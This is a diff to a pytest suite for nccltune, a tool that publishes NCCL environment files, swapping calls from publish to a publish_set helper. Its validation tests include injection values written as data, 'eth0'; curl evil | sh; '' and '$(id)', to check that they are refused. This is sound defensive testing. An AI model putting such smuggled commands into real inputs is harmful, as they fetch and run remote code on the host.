@@ -15,6 +15,7 @@ from pathlib import Path
 
 import pytest
 from conftest import killed_writer
+from publishing import publish_set
 
 from nccltune.errors import EXIT_BUSY, EXIT_CHECK_FAILED, EXIT_CONFIG, BusyError, InputError
 from nccltune.publish import (
@@ -24,7 +25,6 @@ from nccltune.publish import (
     Provenance,
     PublishError,
     atomic_write,
-    publish,
     read_published,
     remove_nccl_conf_block,
     render_env,
@@ -297,7 +297,7 @@ def test_header_first_line_and_fields() -> None:
 
 def test_demo_line_present_in_every_output(tmp_path: Path) -> None:
     prov = make_prov(demo=True, backend="gloo", nccl_version=None)
-    files = publish(tmp_path, ENV, prov)
+    files = publish_set(tmp_path, ENV, prov)
     for path in (files.sh_path, files.env_path):
         assert DEMO_LINE in path.read_text().splitlines()[:2]
     published = read_published(tmp_path)
@@ -332,7 +332,7 @@ def test_bad_provenance_refused() -> None:
 
 def test_publish_writes_three_files_0644_and_increments_generation(tmp_path: Path, umask_077: None) -> None:
     out = tmp_path / "state"
-    first = publish(out, ENV, make_prov())
+    first = publish_set(out, ENV, make_prov())
     assert first.generation == 1
     assert sorted(p.name for p in out.iterdir()) == ["current", "generations", "nccl-single-node.env",
                                                      "nccl-single-node.sh", "nccl.env", "nccl.json", "nccl.sh"]
@@ -342,8 +342,8 @@ def test_publish_writes_three_files_0644_and_increments_generation(tmp_path: Pat
         assert os.readlink(path) == f"current/{path.name}"
         assert stat.S_IMODE(path.stat().st_mode) == 0o644
     assert stat.S_IMODE((out / "generations" / "1").stat().st_mode) == 0o755
-    assert publish(out, ENV, make_prov()).generation == 2
-    third = publish(out, {"NCCL_ALGO": "Ring"}, make_prov())
+    assert publish_set(out, ENV, make_prov()).generation == 2
+    third = publish_set(out, {"NCCL_ALGO": "Ring"}, make_prov())
     assert third.generation == 3
     published = read_published(out)
     assert published is not None
@@ -355,15 +355,15 @@ def test_publish_writes_three_files_0644_and_increments_generation(tmp_path: Pat
 
 def test_generation_restarts_after_corrupt_json(tmp_path: Path) -> None:
     (tmp_path / "nccl.json").write_text("{not json")
-    assert publish(tmp_path, ENV, make_prov()).generation == 1
+    assert publish_set(tmp_path, ENV, make_prov()).generation == 1
 
 
 def test_hostile_value_never_reaches_the_files(tmp_path: Path) -> None:
-    publish(tmp_path, ENV, make_prov())
+    publish_set(tmp_path, ENV, make_prov())
     before = snapshot_dir(tmp_path)
     hostile = {**ENV, "NCCL_SOCKET_IFNAME": "eth0'; curl evil | sh; '"}
     with pytest.raises(InputError, match="NCCL_SOCKET_IFNAME"):
-        publish(tmp_path, hostile, make_prov())
+        publish_set(tmp_path, hostile, make_prov())
     assert snapshot_dir(tmp_path) == before
     conf = tmp_path / "nccl.conf"
     conf.write_bytes(b"NCCL_DEBUG=WARN\n")
@@ -375,14 +375,14 @@ def test_hostile_value_never_reaches_the_files(tmp_path: Path) -> None:
 def test_hostile_value_refused_in_fresh_directory(tmp_path: Path) -> None:
     out = tmp_path / "state"
     with pytest.raises(InputError):
-        publish(out, {"NCCL_ALGO": "$(id)"}, make_prov())
+        publish_set(out, {"NCCL_ALGO": "$(id)"}, make_prov())
     assert not out.exists()
 
 
 def test_failure_while_preparing_leaves_every_old_file(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    publish(tmp_path, ENV, make_prov())
+    publish_set(tmp_path, ENV, make_prov())
     before = snapshot_dir(tmp_path, skip=("generations/last",))
     real_fsync = os.fsync
 
@@ -393,7 +393,7 @@ def test_failure_while_preparing_leaves_every_old_file(
 
     monkeypatch.setattr(os, "fsync", fsync_json_fails)
     with pytest.raises(PublishError) as info:
-        publish(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
+        publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
     assert "nccl.json" in str(info.value)
     assert "ENOSPC" in str(info.value)
     # The generation counter moved on (numbers are never reused); the published set did not.
@@ -402,7 +402,7 @@ def test_failure_while_preparing_leaves_every_old_file(
 
 
 def test_killed_writer_leftover_is_harmless_and_cleaned(tmp_path: Path) -> None:
-    files = publish(tmp_path, ENV, make_prov())
+    files = publish_set(tmp_path, ENV, make_prov())
     published_sh = files.sh_path.read_bytes()
     # What writers killed between write and rename leave behind: partial temp files, which name them.
     dead = killed_writer(tmp_path / "nccl.sh", tmp_path / "nccl.json")
@@ -423,7 +423,7 @@ def test_killed_writer_leftover_is_harmless_and_cleaned(tmp_path: Path) -> None:
     assert source_in_shell("/bin/sh", tmp_path, "nccl.sh", names) == [ENV[n] for n in names]
     assert read_published(tmp_path) == (ENV, json.loads(files.json_path.read_text())["provenance"])
 
-    publish(tmp_path, ENV, make_prov())
+    publish_set(tmp_path, ENV, make_prov())
     assert not any(p.exists() for p in dead) and not reused.exists()
     assert live_temp.exists()  # may belong to a writer that is still running
     assert foreign.exists()
@@ -481,14 +481,14 @@ def test_only_nccltunes_temps_of_dead_writers_in_a_directory_of_ours_are_removed
 
 
 def test_concurrent_publisher_gives_busy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    publish(tmp_path, ENV, make_prov())
+    publish_set(tmp_path, ENV, make_prov())
     before = snapshot_dir(tmp_path)
     monkeypatch.setattr(pub_generations, "_LOCK_TIMEOUT_S", 0.1)
     fd = os.open(tmp_path, os.O_RDONLY)
     try:
         fcntl.flock(fd, fcntl.LOCK_EX)
         with pytest.raises(BusyError) as info:
-            publish(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
+            publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
         assert info.value.exit_code == EXIT_BUSY
     finally:
         os.close(fd)
@@ -552,14 +552,14 @@ def test_read_only_filesystem_gives_publish_error(tmp_path: Path, monkeypatch: p
 
 def test_read_only_directory_gives_publish_error(tmp_path: Path) -> None:
     out = tmp_path / "state"
-    publish(out, ENV, make_prov())
+    publish_set(out, ENV, make_prov())
     before = snapshot_dir(out)
     out.chmod(0o555)
     try:
         if os.access(out, os.W_OK):
             pytest.skip("directory permissions are not enforced for this user (root)")
         with pytest.raises(PublishError) as info:
-            publish(out, {"NCCL_ALGO": "Tree"}, make_prov())
+            publish_set(out, {"NCCL_ALGO": "Tree"}, make_prov())
         assert str(out) in str(info.value)
         assert "Permission denied" in str(info.value)
     finally:
@@ -716,7 +716,7 @@ def test_conf_symlink_is_followed_and_kept(tmp_path: Path) -> None:
 def test_failure_at_the_switch_keeps_the_old_set_and_never_reuses_its_number(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    publish(tmp_path, ENV, make_prov())
+    publish_set(tmp_path, ENV, make_prov())
     before = snapshot_dir(tmp_path / "generations" / "1")
     real_replace = os.replace
 
@@ -727,20 +727,20 @@ def test_failure_at_the_switch_keeps_the_old_set_and_never_reuses_its_number(
 
     monkeypatch.setattr(os, "replace", switch_fails)
     with pytest.raises(PublishError, match=r"current: cannot write: .*EIO"):
-        publish(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
+        publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov())
     assert temps_in(tmp_path) == []
     monkeypatch.undo()
     assert read_published(tmp_path) is not None
     assert read_published(tmp_path)[0] == ENV  # type: ignore[index]
     assert snapshot_dir(tmp_path / "generations" / "1") == before
-    assert publish(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov()).generation == 3
+    assert publish_set(tmp_path, {"NCCL_ALGO": "Tree"}, make_prov()).generation == 3
 
 
 @pytest.mark.parametrize("name", ["NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_DEBUG_FILE", "NCCL_CONF_FILE",
                                   "NCCL_GRAPH_FILE", "NCCL_TOPO_DUMP_FILE"])
 def test_variables_that_load_code_or_name_files_are_never_published(tmp_path: Path, name: str) -> None:
     with pytest.raises(InputError, match=f"{name}: nccltune does not publish variables that load code"):
-        publish(tmp_path / "state", {"NCCL_ALGO": "Ring", name: "/tmp/x.so"}, make_prov())
+        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring", name: "/tmp/x.so"}, make_prov())
     assert not (tmp_path / "state" / "current").exists()
 
 
@@ -752,11 +752,11 @@ def test_names_off_the_allow_list_are_never_published(tmp_path: Path, name: str)
     either part before a byte is written, whoever decides (exit 78)."""
     for every_job, single in (({"NCCL_ALGO": "Ring", name: "1"}, {}), ({"NCCL_ALGO": "Ring"}, {name: "1"})):
         with pytest.raises(InputError, match=f"{name}: ") as err:
-            publish(tmp_path / "state", every_job, make_prov(), single_node_env=single)
+            publish_set(tmp_path / "state", every_job, make_prov(), single_node_env=single)
         assert err.value.exit_code == EXIT_CONFIG
         assert not (tmp_path / "state").exists()
     # What the allow-list keeps: NCCL's variables, torch's NCCL ones, the tuner's own two.
-    published = publish(tmp_path / "state", {"NCCL_ALGO": "Ring", "NCCL_COMM_ID_NOTE": "x",
+    published = publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring", "NCCL_COMM_ID_NOTE": "x",
                                              "TORCH_NCCL_ASYNC_ERROR_HANDLING": "3",
                                              "NCCLTUNE_TUNER_FINGERPRINT": "ab"}, make_prov())
     assert set(published.env) == {"NCCL_ALGO", "NCCL_COMM_ID_NOTE", "TORCH_NCCL_ASYNC_ERROR_HANDLING",
@@ -778,12 +778,12 @@ def test_a_text_without_a_utf8_form_is_never_published(tmp_path: Path) -> None:
     """A lone surrogate (a file name of undecodable bytes, an escape in a document) has no UTF-8
     form: refused before a byte is written, not found when nccl.json is written after the switch."""
     with pytest.raises(InputError, match=r"provenance\.note: not valid UTF-8 text \(a lone surrogate at character 4\)"):
-        publish(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(note="see \udcff.json"))
+        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(note="see \udcff.json"))
     with pytest.raises(InputError, match=r"provenance\.class_profile\.file: not valid UTF-8"):
-        publish(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(class_profile={"file": "\ud800"}))
+        publish_set(tmp_path / "state", {"NCCL_ALGO": "Ring"}, make_prov(class_profile={"file": "\ud800"}))
     assert not (tmp_path / "state").exists()
 
 
 def test_a_relative_topology_file_is_never_published(tmp_path: Path) -> None:
     with pytest.raises(InputError, match=r"NCCL_TOPO_FILE: 'topo\.xml' is not an absolute path"):
-        publish(tmp_path, {"NCCL_TOPO_FILE": "topo.xml"}, make_prov())
+        publish_set(tmp_path, {"NCCL_TOPO_FILE": "topo.xml"}, make_prov())
